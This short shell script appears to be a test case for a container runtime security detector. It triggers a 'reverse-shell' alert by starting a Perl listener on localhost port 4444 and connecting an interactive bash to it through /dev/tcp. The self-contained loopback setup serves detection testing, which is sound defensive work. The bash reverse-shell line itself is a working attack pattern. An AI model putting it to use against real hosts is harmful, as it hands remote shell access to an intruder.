#!/bin/sh
# action: RedirectStdoutStdinToNetworkConnectionInContainer
# expect: system/reverse-shell
# where: container
perl -MIO::Socket::INET -e '$l=IO::Socket::INET->new(LocalAddr=>"127.0.0.1:4444",Listen=>1,ReuseAddr=>1) or die; if(fork){$c=$l->accept; print $c "exit\n"; sleep 2; exit} else {close $l; exec("bash","-c","sleep 0.5; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")}'
